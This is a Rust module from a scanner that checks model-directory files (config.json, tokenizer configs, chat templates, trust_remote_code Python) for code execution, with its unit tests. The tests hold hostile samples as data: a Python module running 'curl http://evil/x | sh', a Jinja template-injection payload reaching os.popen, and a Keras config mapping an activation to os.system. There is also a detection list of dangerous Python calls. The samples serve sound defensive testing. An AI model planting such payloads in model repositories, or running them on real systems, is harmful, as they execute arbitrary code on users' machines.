//! JSON and text files of a model directory: configs, tokenizers, chat templates, model
//! cards, and Python modules that `trust_remote_code` imports.
//!
//! A real model directory holds `config.json`, `generation_config.json`,
//! `tokenizer.json`, `tokenizer_config.json`, `special_tokens_map.json`, `vocab.json`,
//! `merges.txt`, `README.md`: all of them must come out clean. What matters in them:
//!
//! - a Keras model config (`config.json` of a `.keras` archive) → [`super::keras`];
//! - `chat_template` (string, or a list of `{name, template}`) in `tokenizer_config.json`
//!   or `chat_template.json`, and `chat_template.jinja` files → [`super::template`];
//! - Python source (`modeling_*.py`, `configuration_*.py`): transformers imports it when
//!   the model is loaded with `trust_remote_code=True`.
//!
//! Nothing else in JSON or text is treated as suspicious.

use serde_json::Value;

use formats::keras;

use crate::analyze::{keras as keras_rules, template};
use crate::context::{Cx, Target};
use crate::location::Location;
use crate::rules::Rule;
use crate::severity::Severity;

pub static PYTHON_SOURCE: Rule = Rule {
    id: "TXT001",
    name: "python-source",
    severity: Severity::High,
    title: "Python source in the model",
    why: "transformers imports a model's `.py` modules (`modeling_*.py`, `configuration_*.py`, named by `auto_map`) when it is loaded with `trust_remote_code=True`: they run with the loader's rights, and no scanner can vouch for arbitrary Python.",
    fix: "Read the code before loading with trust_remote_code, pin the reviewed revision, or use a model that needs no remote code.",
};

pub static PYTHON_EXEC: Rule = Rule {
    id: "TXT002",
    name: "python-runs-commands",
    severity: Severity::Critical,
    title: "Python source in the model runs commands or evaluates code",
    why: "The module calls os.system, subprocess, eval/exec, sockets or unpicklers: importing it (trust_remote_code) runs them.",
    fix: "Do not load the model with trust_remote_code; report the repository.",
};

pub static INVALID_JSON: Rule = Rule {
    id: "TXT003",
    name: "invalid-json",
    severity: Severity::Low,
    title: "file looks like JSON but does not parse",
    why: "Loaders reading it would fail; a lenient loader might read something else than this scanner.",
    fix: "Check the file's origin.",
};

pub static AUTO_MAP: Rule = Rule {
    id: "TXT004",
    name: "remote-code-reference",
    severity: Severity::Info,
    title: "config names model code (auto_map)",
    why: "`auto_map` tells transformers which Python classes to import with trust_remote_code; `repo--module.Class` entries pull code from another repository.",
    fix: "Review the named modules (see TXT001 findings) before loading with trust_remote_code.",
};

pub static RULES: &[&Rule] = &[&PYTHON_SOURCE, &PYTHON_EXEC, &INVALID_JSON, &AUTO_MAP];

/// Deepest JSON walked looking for chat templates.
const MAX_WALK: usize = 64;
/// Text analysed at most (Python modules and templates are far smaller); a template cut
/// at this size is reported as not fully inspected.
const TEXT_WINDOW: usize = 16 << 20;
/// Bytes whose presence means a JSON file needs a full parse.
const MARKERS: &[&[u8]] = &[
    b"\\u",
    b"chat_template",
    b"class_name",
    b"auto_map",
    b"\"module\"",
];

/// The keys [`inspect_json`] acts on (`chat_template` also as a prefix), as they start in
/// the text when no `\u` escape spells them.
const KEYS: &[&[u8]] = &[b"chat_template", b"class_name", b"auto_map", b"module"];

fn contains(data: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(data, needle).is_some()
}

/// Whether a string starting `"name` may be an object key: a real (unescaped) quote opens
/// it and its closing quote is followed by a colon, or there is no closing quote. A key
/// spelled without `\u` escapes always shows this way, since no other escape produces the
/// letters of `name`. (In valid JSON a quote after an odd run of backslashes is escaped,
/// inside a string; the caller parses the JSON as well.)
fn may_be_key(data: &[u8], name: &[u8]) -> bool {
    let escaped = |at: usize| {
        let before = data.get(..at).unwrap_or_default();
        before.iter().rev().take_while(|&&b| b == b'\\').count() % 2 == 1
    };
    let mut quoted = Vec::with_capacity(name.len().saturating_add(1));
    quoted.push(b'"');
    quoted.extend_from_slice(name);
    memchr::memmem::find_iter(data, &quoted).any(|at| {
        if escaped(at) {
            return false;
        }
        let mut from = at.saturating_add(quoted.len());
        let close = loop {
            let rest = data.get(from..).unwrap_or_default();
            match memchr::memchr(b'"', rest) {
                None => return true,
                Some(q) if escaped(from.saturating_add(q)) => {
                    from = from.saturating_add(q).saturating_add(1)
                }
                Some(q) => break from.saturating_add(q),
            }
        };
        data.get(close.saturating_add(1)..)
            .unwrap_or_default()
            .iter()
            .find(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r'))
            == Some(&b':')
    })
}

/// Accepts exactly the JSON that `serde_json::Value` accepts (every value through
/// `deserialize_any`, numbers range-checked), building nothing.
struct AnyJson;

impl<'de> serde::Deserialize<'de> for AnyJson {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        d.deserialize_any(AnyJsonVisitor)
    }
}

struct AnyJsonVisitor;

impl<'de> serde::de::Visitor<'de> for AnyJsonVisitor {
    type Value = AnyJson;

    fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("any JSON value")
    }
    fn visit_bool<E>(self, _: bool) -> Result<AnyJson, E> {
        Ok(AnyJson)
    }
    fn visit_i64<E>(self, _: i64) -> Result<AnyJson, E> {
        Ok(AnyJson)
    }
    fn visit_u64<E>(self, _: u64) -> Result<AnyJson, E> {
        Ok(AnyJson)
    }
    fn visit_f64<E>(self, _: f64) -> Result<AnyJson, E> {
        Ok(AnyJson)
    }
    fn visit_str<E>(self, _: &str) -> Result<AnyJson, E> {
        Ok(AnyJson)
    }
    fn visit_unit<E>(self) -> Result<AnyJson, E> {
        Ok(AnyJson)
    }
    fn visit_seq<A: serde::de::SeqAccess<'de>>(self, mut seq: A) -> Result<AnyJson, A::Error> {
        while seq.next_element::<AnyJson>()?.is_some() {}
        Ok(AnyJson)
    }
    fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<AnyJson, A::Error> {
        while map.next_key::<AnyJson>()?.is_some() {
            map.next_value::<AnyJson>()?;
        }
        Ok(AnyJson)
    }
}

/// JSON in which the full analysis would find nothing, told without building a value
/// tree. Most JSON in a model directory (tokenizer.json, vocab.json: megabytes) has
/// nothing this analyzer looks at. Keys spelled with `\u` escapes take the full path,
/// since Python decodes them.
fn nothing_to_inspect(data: &[u8], cx: &Cx<'_>) -> bool {
    if data.len() as u64 > cx.limits.max_header_bytes {
        return false;
    }
    if !MARKERS.iter().any(|m| contains(data, m)) {
        return serde_json::from_slice::<serde::de::IgnoredAny>(data).is_ok();
    }
    // The marker words occur, but none starts an object key: the full path would load
    // the same JSON (same depth limit, same grammar) and find no key to act on.
    !contains(data, b"\\u")
        && !KEYS.iter().any(|k| may_be_key(data, k))
        && keras::json_depth_within_limit(data, cx.limits)
        && serde_json::from_slice::<AnyJson>(data).is_ok()
}

pub fn analyze_json(cx: &mut Cx<'_>, t: Target<'_>) {
    let name = file_name(t.loc);
    if nothing_to_inspect(t.data, cx) {
        return;
    }
    match keras::load_json(t.data, cx.limits) {
        Ok(v) => inspect_json(cx, &t, &v),
        Err(e) if e.is_limit() => cx.parse_error("json", t.loc, &e),
        Err(e) => {
            if let Some(values) = json_lines(t.data, cx) {
                for v in &values {
                    inspect_json(cx, &t, v);
                }
                return;
            }
            let text = head_text(t.data, cx);
            if !looks_like_jinja(&name, &text) && json_attempt(&text) {
                cx.report(&INVALID_JSON, t.loc.at(e.offset), format!("{}", e.kind));
            }
            inspect_text(cx, &t, &name, &text);
        }
    }
}

pub fn analyze_text(cx: &mut Cx<'_>, t: Target<'_>) {
    let name = file_name(t.loc);
    let text = head_text(t.data, cx);
    inspect_text(cx, &t, &name, &text);
}

/// The innermost name: the last archive member, else the file name.
fn file_name(loc: &Location) -> String {
    loc.members.last().cloned().unwrap_or_else(|| {
        loc.path
            .file_name()
            .map(|n| n.to_string_lossy().into_owned())
            .unwrap_or_default()
    })
}

/// At most `TEXT_WINDOW` (and `max_header_bytes`) of the data as text.
fn head_text(data: &[u8], cx: &Cx<'_>) -> String {
    let max = usize::try_from(cx.limits.max_header_bytes)
        .unwrap_or(usize::MAX)
        .min(TEXT_WINDOW);
    String::from_utf8_lossy(data.get(..data.len().min(max)).unwrap_or(data)).into_owned()
}

/// JSON Lines: two or more lines, each a JSON value.
fn json_lines(data: &[u8], cx: &Cx<'_>) -> Option<Vec<Value>> {
    let mut out = Vec::new();
    for line in data.split(|&b| b == b'\n') {
        if line.iter().all(u8::is_ascii_whitespace) {
            continue;
        }
        out.push(keras::load_json(line, cx.limits).ok()?);
    }
    (out.len() >= 2).then_some(out)
}

fn inspect_json(cx: &mut Cx<'_>, t: &Target<'_>, v: &Value) {
    if keras::looks_like_config(v) {
        keras_rules::check(cx, t.loc, v, t.depth);
    }
    // Chat templates and auto_map, at any depth.
    let mut stack: Vec<(&Value, usize)> = vec![(v, 0)];
    while let Some((v, depth)) = stack.pop() {
        match v {
            Value::Object(o) => {
                for (k, child) in o {
                    if k == "chat_template" || k.starts_with("chat_template.") {
                        templates(cx, t.loc, k, child);
                    } else if k == "auto_map" {
                        auto_map(cx, t.loc, child);
                    } else if depth < MAX_WALK && (child.is_object() || child.is_array()) {
                        stack.push((child, depth.saturating_add(1)));
                    }
                }
            }
            Value::Array(a) if depth < MAX_WALK => {
                stack.extend(
                    a.iter()
                        .filter(|c| c.is_object() || c.is_array())
                        .map(|c| (c, depth.saturating_add(1))),
                );
            }
            _ => {}
        }
    }
}

/// `"chat_template": "..."` or `[{"name": "default", "template": "..."}, ...]`.
fn templates(cx: &mut Cx<'_>, loc: &Location, key: &str, v: &Value) {
    match v {
        Value::String(s) => template::check(cx, &loc.object(key.to_string()), s),
        Value::Array(items) => {
            for item in items {
                let name = item.get("name").and_then(Value::as_str).unwrap_or("?");
                match item.get("template") {
                    Some(Value::String(s)) => template::check(
                        cx,
                        &loc.object(format!("{key} {}", template::clip(name, 60))),
                        s,
                    ),
                    _ => {
                        if let Value::String(s) = item {
                            template::check(cx, &loc.object(key.to_string()), s);
                        }
                    }
                }
            }
        }
        Value::Object(o) => {
            // `{"default": "...", "tool_use": "..."}`
            for (name, s) in o {
                if let Value::String(s) = s {
                    template::check(
                        cx,
                        &loc.object(format!("{key} {}", template::clip(name, 60))),
                        s,
                    );
                }
            }
        }
        _ => {}
    }
}

fn auto_map(cx: &mut Cx<'_>, loc: &Location, v: &Value) {
    let Value::Object(o) = v else { return };
    let mut refs: Vec<String> = Vec::new();
    for target in o.values() {
        let items: Vec<&str> = match target {
            Value::String(s) => vec![s.as_str()],
            Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
            _ => Vec::new(),
        };
        for s in items {
            if !refs.iter().any(|r| r == s) {
                refs.push(s.to_string());
            }
        }
    }
    if refs.is_empty() {
        return;
    }
    let remote = refs.iter().any(|r| r.contains("--"));
    cx.report(
        &AUTO_MAP,
        loc.object("auto_map"),
        format!(
            "{}{}",
            template::clip(&refs.join(", "), 200),
            if remote {
                " (code from another repository)"
            } else {
                ""
            }
        ),
    );
}

/// Whether text that failed to parse was meant as JSON: after the opening bracket comes a
/// JSON value, not a word (`[PAD]` in vocab.txt, `[section]` in INI/TOML files).
fn json_attempt(text: &str) -> bool {
    let t = text.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
    let Some(rest) = t.get(1..) else { return false };
    let rest = rest.trim_start();
    match rest.chars().next() {
        None => true,
        Some(c) if "\"{}[]-".contains(c) || c.is_ascii_digit() => true,
        Some(_) => ["true", "false", "null", "NaN", "Infinity"]
            .iter()
            .any(|w| {
                rest.starts_with(w)
                    && !rest.get(w.len()..).is_some_and(|r| {
                        r.starts_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.')
                    })
            }),
    }
}

fn looks_like_jinja(name: &str, text: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let trimmed = text.trim_start_matches(['\u{feff}', ' ', '\t', '\r', '\n']);
    lower.ends_with(".jinja")
        || lower.ends_with(".jinja2")
        || lower.ends_with(".j2")
        || trimmed.starts_with("{%")
        || trimmed.starts_with("{{")
        || trimmed.starts_with("{#")
}

fn inspect_text(cx: &mut Cx<'_>, t: &Target<'_>, name: &str, text: &str) {
    if looks_like_jinja(name, text) {
        // `check` reports templates it cannot inspect whole.
        template::check(cx, &t.loc.object("chat template"), text);
        return;
    }
    let py_name = name.to_ascii_lowercase().ends_with(".py");
    if let Some(sig) = python_signals(text, py_name) {
        cx.report(&PYTHON_SOURCE, t.loc.at(sig.offset as u64), sig.evidence);
        if let Some((off, line)) = dangerous_python(text) {
            cx.report(&PYTHON_EXEC, t.loc.at(off as u64), line);
        }
    }
}

struct PySignal {
    offset: usize,
    evidence: String,
}

/// Is this Python source? Decided by content: a python shebang, or at least two kinds of
/// top-level statements (`import`, `from .. import`, `def`, `class`, decorators, a main
/// guard, calls, assignments) outside Markdown code fences; one kind is enough for a file
/// named `.py` (and there fences do not hide code, since Python ignores them in strings).
fn python_signals(text: &str, py_name: bool) -> Option<PySignal> {
    let mut kinds: Vec<(&'static str, usize, &str)> = Vec::new();
    let mut in_fence = false;
    let mut offset = 0usize;
    for (n, line) in text.split('\n').enumerate() {
        let at = offset;
        offset = offset.saturating_add(line.len()).saturating_add(1);
        let line = line.trim_end_matches('\r');
        if n == 0 && line.starts_with("#!") && line.contains("python") {
            return Some(PySignal {
                offset: 0,
                evidence: format!("shebang `{}`", template::clip(line, 120)),
            });
        }
        if line.trim_start().starts_with("```") {
            in_fence = !in_fence;
            continue;
        }
        if in_fence && !py_name {
            continue;
        }
        if let Some(kind) = statement_kind(line) {
            if !kinds.iter().any(|(k, _, _)| *k == kind) {
                kinds.push((kind, at, line));
            }
        }
    }
    let enough = if py_name { 1 } else { 2 };
    if kinds.len() < enough {
        return None;
    }
    let (_, off, first) = kinds.first().copied()?;
    let shown: Vec<&str> = kinds.iter().map(|(k, _, _)| *k).collect();
    Some(PySignal {
        offset: off,
        evidence: format!(
            "{} ({})",
            template::clip(first.trim(), 120),
            shown.join(", ")
        ),
    })
}

fn is_ident(s: &str) -> bool {
    let mut cs = s.chars();
    cs.next()
        .is_some_and(|c| c == '_' || c.is_ascii_alphabetic())
        && cs.all(|c| c == '_' || c.is_ascii_alphanumeric())
}

fn is_dotted(s: &str) -> bool {
    !s.is_empty() && s.split('.').all(|p| p.is_empty() || is_ident(p))
}

/// The kind of a top-level Python statement on this line, if it is one.
fn statement_kind(line: &str) -> Option<&'static str> {
    if line.starts_with(char::is_whitespace) {
        return None;
    }
    let words: Vec<&str> = line.split_whitespace().collect();
    let w0 = words.first().copied()?;
    let w1 = words.get(1).copied().unwrap_or("");
    match w0 {
        "import" if is_dotted(w1.trim_end_matches(',')) => return Some("import"),
        "from" if is_dotted(w1) && words.get(2) == Some(&"import") => return Some("from-import"),
        "def" | "async" if w1.contains('(') || words.get(2).is_some_and(|w| w.contains('(')) => {
            return Some("def")
        }
        "class"
            if is_ident(w1.split(['(', ':']).next().unwrap_or(""))
                && (w1.contains('(') || line.trim_end().ends_with(':')) =>
        {
            return Some("class")
        }
        _ => {}
    }
    if line.starts_with("if __name__") {
        return Some("main-guard");
    }
    if let Some(rest) = line.strip_prefix('@') {
        if is_dotted(rest.split('(').next().unwrap_or("").trim()) {
            return Some("decorator");
        }
    }
    // `name.attr(...)` call statements and `NAME = value` assignments.
    let head: String = line
        .chars()
        .take_while(|c| *c == '_' || *c == '.' || c.is_ascii_alphanumeric())
        .collect();
    let rest = line.get(head.len()..).unwrap_or("");
    if is_dotted(&head)
        && !head.is_empty()
        && rest.starts_with('(')
        && line.trim_end().ends_with(')')
    {
        return Some("call");
    }
    if is_ident(&head)
        && (rest.starts_with(" = ") || rest.starts_with("="))
        && !rest.starts_with("==")
    {
        return Some("assignment");
    }
    None
}

/// The first line that runs commands, evaluates code, opens sockets or unpickles.
fn dangerous_python(text: &str) -> Option<(usize, String)> {
    const CALLS: &[&str] = &[
        "os.system(",
        "os.popen(",
        "os.execv",
        "os.execl",
        "os.spawn",
        "os.posix_spawn",
        "subprocess.",
        "pty.spawn(",
        "socket.socket(",
        "__import__(",
        "marshal.loads(",
        "pickle.loads(",
        "ctypes.CDLL(",
        "ctypes.cdll",
        "commands.getoutput(",
    ];
    const BARE: &[&str] = &["eval(", "exec(", "compile("];
    let mut offset = 0usize;
    for line in text.split('\n') {
        let at = offset;
        offset = offset.saturating_add(line.len()).saturating_add(1);
        let code = line.split('#').next().unwrap_or("");
        let hit = CALLS.iter().any(|c| code.contains(c))
            || BARE.iter().any(|b| {
                code.match_indices(b).any(|(i, _)| {
                    let before = code.get(..i).and_then(|s| s.chars().last());
                    !before.is_some_and(|c| c == '.' || c == '_' || c.is_alphanumeric())
                })
            });
        if hit {
            return Some((at, template::clip(line.trim(), 160)));
        }
    }
    None
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::{scan_bytes, ScanOptions};

    #[test]
    fn keys_are_told_from_words_in_values() {
        assert!(may_be_key(br#"{"chat_template": "x"}"#, b"chat_template"));
        assert!(may_be_key(
            br#"{"chat_template.tool" :"x"}"#,
            b"chat_template"
        ));
        assert!(may_be_key(b"{\"module\"\n\t: 1}", b"module"));
        assert!(may_be_key(br#"{"chat_template\"x": 1}"#, b"chat_template"));
        assert!(may_be_key(br#"{"chat_template\\": 1}"#, b"chat_template"));
        assert!(!may_be_key(
            br#"{"x": "chat_template\": 1"}"#,
            b"chat_template"
        ));
        // No closing quote: undecidable, counted as a key.
        assert!(may_be_key(br#"["chat_template"#, b"chat_template"));
        assert!(!may_be_key(
            br#"{"note": "chat_template here"}"#,
            b"chat_template"
        ));
        assert!(!may_be_key(br#"["class_name", "auto_map"]"#, b"class_name"));
        assert!(!may_be_key(br#"{"m": ["module"]}"#, b"module"));
        // Matched as a prefix: a longer key counts too (the full path then decides).
        assert!(may_be_key(br#"{"modules": 1}"#, b"module"));
        // A quoted word inside a string opens with an escaped quote.
        assert!(!may_be_key(br#"{"a": "x \"module\": y"}"#, b"module"));
        assert!(may_be_key(br#"{"a\\": 1, "module": 2}"#, b"module"));
    }

    #[test]
    fn any_json_accepts_what_value_accepts() {
        for doc in [
            &br#"{"a": [1, -2, 3.5, 1e308, true, null, "s\n"], "a": {}}"#[..],
            b"[1e400]",
            b"[-1e400]",
            b"[18446744073709551616]",
            b"[-9223372036854775809]",
            b"[NaN]",
            b"{\"a\": 1,}",
            b"[\"\x01\"]",
            b"[\"\\ud800\"]",
            b"[1] x",
            b"",
            br#""plain""#,
        ] {
            assert_eq!(
                serde_json::from_slice::<AnyJson>(doc).is_ok(),
                serde_json::from_slice::<Value>(doc).is_ok(),
                "{}",
                String::from_utf8_lossy(doc)
            );
        }
        let deep = format!("{}{}", "[".repeat(200), "]".repeat(200));
        assert_eq!(
            serde_json::from_slice::<AnyJson>(deep.as_bytes()).is_ok(),
            serde_json::from_slice::<Value>(deep.as_bytes()).is_ok()
        );
    }

    #[test]
    fn words_in_values_are_not_inspected_but_keys_are() {
        // An out-of-range number fails the shortcut's parse (as it fails serde_json's
        // Value); the full path reads it as Python does, and finds nothing either.
        assert!(scan("x.json", br#"{"note": "chat_template", "n": 1e400}"#).is_empty());
        assert!(scan("x.json", br#"{"note": "see chat_template and auto_map"}"#).is_empty());
        assert!(!scan("x.json", br#"{"auto_map": {"AutoModel": "a--b.C"}}"#).is_empty());
    }

    fn scan(name: &str, data: &[u8]) -> Vec<(&'static str, Severity, String)> {
        let r = scan_bytes(data, name, &ScanOptions::default());
        r.findings
            .iter()
            .map(|f| (f.rule.id, f.severity, f.evidence.clone()))
            .collect()
    }

    /// Runs the text analyzer directly (content detection is not this module's job).
    fn text(name: &str, data: &[u8]) -> Vec<(&'static str, Severity, String)> {
        let limits = formats::Limits::default();
        let policy = crate::policy::Policy::default();
        let mut cx = Cx::new(&limits, &policy, None);
        let loc = Location::file(name);
        analyze_text(
            &mut cx,
            Target {
                data,
                loc: &loc,
                depth: 0,
            },
        );
        cx.findings()
            .iter()
            .map(|f| (f.rule.id, f.severity, f.evidence.clone()))
            .collect()
    }

    fn gated(f: &[(&'static str, Severity, String)]) -> Vec<(&'static str, Severity, String)> {
        f.iter()
            .filter(|x| x.1 >= Severity::Medium)
            .cloned()
            .collect()
    }

    #[test]
    fn real_model_directory_files_are_clean() {
        let files: &[(&str, &str)] = &[
            ("config.json", r#"{"architectures": ["LlamaForCausalLM"], "attention_bias": false, "bos_token_id": 128000, "eos_token_id": 128001, "hidden_act": "silu", "hidden_size": 4096, "model_type": "llama", "rope_scaling": null, "rope_theta": 500000.0, "torch_dtype": "bfloat16", "transformers_version": "4.40.0.dev0", "vocab_size": 128256}"#),
            ("generation_config.json", r#"{"bos_token_id": 128000, "eos_token_id": [128001, 128009], "do_sample": true, "temperature": 0.6, "top_p": 0.9}"#),
            ("special_tokens_map.json", r#"{"bos_token": {"content": "<|begin_of_text|>", "lstrip": false, "normalized": false, "rstrip": false, "single_word": false}, "eos_token": "<|eot_id|>"}"#),
            ("tokenizer.json", r#"{"version": "1.0", "truncation": null, "padding": null, "added_tokens": [{"id": 0, "content": "<unk>", "special": true}], "normalizer": {"type": "NFC"}, "pre_tokenizer": {"type": "ByteLevel", "add_prefix_space": false}, "post_processor": null, "decoder": {"type": "ByteLevel"}, "model": {"type": "BPE", "dropout": null, "unk_token": null, "vocab": {"!": 0, "\"": 1, "os": 2, "system": 3, "__init__": 4}, "merges": ["o s", "s y"]}}"#),
            ("vocab.json", r#"{"<s>": 0, "__class__": 1, "eval": 2}"#),
            ("merges.txt", "#version: 0.2\nĠ t\nĠ a\nh e\ni n\nimport s\n"),
            ("README.md", "---\nlicense: apache-2.0\n---\n# Model\n\nUse it:\n\n```python\nfrom transformers import AutoModel\nimport torch\nmodel = AutoModel.from_pretrained('x')\nprint(model)\n```\n\nThe system prompt is important.\n"),
            ("trainer_state.json", r#"{"best_metric": NaN, "log_history": [{"loss": Infinity, "step": 1}]}"#),
            ("data.jsonl", "{\"a\": 1}\n{\"a\": 2}\n"),
            ("vocab.txt", "[PAD]\n[UNK]\n[CLS]\nthe\nimport\ndef\n"),
        ];
        for (name, data) in files {
            let f = scan(name, data.as_bytes());
            assert!(f.is_empty(), "{name}: {f:#?}");
        }
    }

    #[test]
    fn tokenizer_config_templates() {
        let benign = serde_json::json!({
            "add_bos_token": true,
            "chat_template": "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\n' + message['content'] + '<|im_end|>' + '\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\n' }}{% endif %}",
            "auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", null]}
        });
        let f = scan("tokenizer_config.json", benign.to_string().as_bytes());
        assert!(gated(&f).is_empty(), "{f:#?}");
        assert!(f.iter().any(|x| x.0 == "TXT004"), "{f:#?}");

        let evil = serde_json::json!({
            "chat_template": [
                {"name": "default", "template": "{{ messages }}"},
                {"name": "tool_use", "template": "{{ ''|attr('__cla' ~ 'ss__') }}"}
            ]
        });
        let f = scan("tokenizer_config.json", evil.to_string().as_bytes());
        assert!(
            f.iter()
                .any(|x| x.0 == "TPL001" && x.1 == Severity::Critical),
            "{f:#?}"
        );
        let r = scan_bytes(
            evil.to_string().as_bytes(),
            "tokenizer_config.json",
            &ScanOptions::default(),
        );
        assert_eq!(
            r.findings[0].location.object.as_deref(),
            Some("chat_template tool_use")
        );
    }

    #[test]
    fn keras_config_json_is_checked() {
        let cfg = r#"{"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "activation": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}}, "registered_name": null}]}, "registered_name": null}"#;
        let f = scan("config.json", cfg.as_bytes());
        assert!(
            f.iter()
                .any(|x| x.0 == "KERAS003" && x.1 == Severity::Critical),
            "{f:#?}"
        );
        // NaN must not let a Lambda escape: Python's json accepts it.
        let cfg = r#"{"class_name": "Sequential", "config": {"x": NaN, "layers": [{"class_name": "Lambda", "config": {"function": ["4wE=", null, null], "function_type": "lambda"}}]}}"#;
        let f = scan("config.json", cfg.as_bytes());
        assert!(f.iter().any(|x| x.0 == "KERAS001"), "{f:#?}");
    }

    #[test]
    fn python_modules() {
        let evil = "import os\n\nos.system('curl http://evil/x | sh')\n";
        let f = scan("modeling_evil.py", evil.as_bytes());
        assert!(
            f.iter().any(|x| x.0 == "TXT001" && x.1 == Severity::High),
            "{f:#?}"
        );
        let x = f.iter().find(|x| x.0 == "TXT002").unwrap();
        assert!(x.2.contains("os.system"), "{}", x.2);
        // By content, whatever the name.
        let f = scan("notes.txt", evil.as_bytes());
        assert!(f.iter().any(|x| x.0 == "TXT001"), "{f:#?}");
        let modeling = "# coding=utf-8\n\"\"\"PyTorch model.\"\"\"\nimport math\nfrom typing import Optional\n\nimport torch\nfrom torch import nn\n\nfrom .configuration_x import XConfig\n\n\nclass XModel(nn.Module):\n    def forward(self, x):\n        self.eval()\n        return x\n";
        let f = scan("modeling_x.py", modeling.as_bytes());
        assert_eq!(
            f.iter().map(|x| x.0).collect::<Vec<_>>(),
            vec!["TXT001"],
            "{f:#?}"
        );
        let f = scan("run", b"#!/usr/bin/env python3\nprint(1)\n");
        assert!(f.iter().any(|x| x.0 == "TXT001"));
        // A .py file hiding code between Markdown fences inside strings is still Python.
        let hidden = "\"\"\"\n```\n\"\"\"\nimport os\nos.system('id')\n\"\"\"\n```\n\"\"\"\n";
        let f = text("modeling_hidden.py", hidden.as_bytes());
        assert!(f.iter().any(|x| x.0 == "TXT002"), "{f:#?}");
        // Empty __init__.py is not code.
        assert!(scan("__init__.py", b"").is_empty());
    }

    #[test]
    fn jinja_files() {
        let f = scan(
            "chat_template.jinja",
            b"{% for m in messages %}{{ m.content }}{% endfor %}",
        );
        assert!(f.is_empty(), "{f:#?}");
        let f = scan(
            "chat_template.jinja",
            b"{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        );
        assert!(f.iter().any(|x| x.0 == "TPL001"), "{f:#?}");
        let f = text(
            "template.txt",
            b"\n{%- for m in messages %}{{ lipsum }}{% endfor %}",
        );
        assert!(f.iter().any(|x| x.0 == "TPL002"), "{f:#?}");
    }

    #[test]
    fn invalid_and_oversized_json() {
        let f = scan("x.json", b"{\"a\": ");
        assert_eq!(
            f.iter().map(|x| (x.0, x.1)).collect::<Vec<_>>(),
            vec![("TXT003", Severity::Low)]
        );
        let deep = "[".repeat(500) + "\"class_name\"" + &"]".repeat(500);
        let f = scan("deep.json", deep.as_bytes());
        assert!(f.iter().any(|x| x.0 == "GEN003"), "{f:#?}");
        let opts = ScanOptions {
            limits: formats::Limits {
                max_header_bytes: 10,
                ..formats::Limits::default()
            },
            ..ScanOptions::default()
        };
        let r = scan_bytes(br#"{"chat_template": "{{ x }}"}"#, "t.json", &opts);
        assert!(r.findings.iter().any(|f| f.rule.id == "GEN003"));
    }
}
